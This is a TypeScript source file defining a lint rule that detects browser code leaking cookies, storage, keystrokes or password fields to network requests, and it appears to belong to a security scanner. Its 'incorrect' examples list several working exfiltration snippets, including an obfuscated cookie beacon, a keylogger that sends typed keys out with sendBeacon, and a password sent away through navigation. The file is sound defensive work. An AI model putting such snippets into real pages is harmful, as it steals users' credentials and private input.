import type { Node } from "estree";
import { defineRule, outsideHost } from "../../contracts/index.js";
import { sensitiveIn } from "./sensitive-sources.js";
import { sinkOf } from "./sinks.js";

export const cookieAndNetwork = defineRule({
  kind: "javascript",
  meta: {
    id: "exfiltration/cookie-and-network",
    category: "data_exfiltration",
    severity: "block",
    title: "Private data is sent away",
    description:
      "Cookies, storage, keystrokes, the clipboard or a secret field reach a request, an address or a navigation; or customer data reaches an outside one.",
    messages: { sent: { text: "{source} goes out through {via}.", fix: "Remove it. Customer data may only go through window.gro." } },
    examples: {
      incorrect: [
        'fetch("/log", { method: "POST", body: document.cookie })',
        'const c = document["coo" + "kie"]; new Image().src = base + "?c=" + encodeURIComponent(c)',
        'let typed = ""; document.addEventListener("keydown", (e) => { typed += e.key }); setInterval(() => navigator.sendBeacon(target, typed), 1000)',
        'const request = new XMLHttpRequest(); request.open("POST", target); request.send(JSON.stringify({ token: localStorage.getItem("token") }))',
        'const i = document.createElement("img"); i.src = `${target}?${btoa(sessionStorage.token)}`',
        'document.querySelector("form").onsubmit = () => { location.href = host + document.querySelector("input[type=password]").value }',
        "function collect() { return { c: document.cookie } } function send(d) { fetch(u, { body: JSON.stringify(d) }) } send(collect())",
      ],
      correct: [
        'fetch(url, { headers: { "X-XSRF-TOKEN": read(document.cookie) } })',
        'localStorage.setItem("step", "2"); fetch("/data.json")',
        'document.addEventListener("keydown", (e) => { if (e.key === "Enter") save() }); new Image().src = "data:image/png;base64,AAAA"',
        "gro.activity.log({ metadata: { note: document.getElementById('n').value } })",
      ],
    },
  },
  create({ file, report }) {
    const visit = (node: Node & { start: number; end: number }): void => {
      const sink = sinkOf(file, node);
      if (!sink) return;
      for (const data of sink.data) {
        const found = sensitiveIn(file.sourcesOf(data));
        if (!found) continue;
        const outside = sink.address !== undefined && outsideHost(file.prefixOf(sink.address) ?? "") !== undefined;
        if (found.strong || outside) {
          report({ messageId: "sent", at: node, data: { source: found.name, via: sink.via } });
          return;
        }
      }
    };
    return { CallExpression: visit, NewExpression: visit, AssignmentExpression: visit, ImportExpression: visit };
  },
});
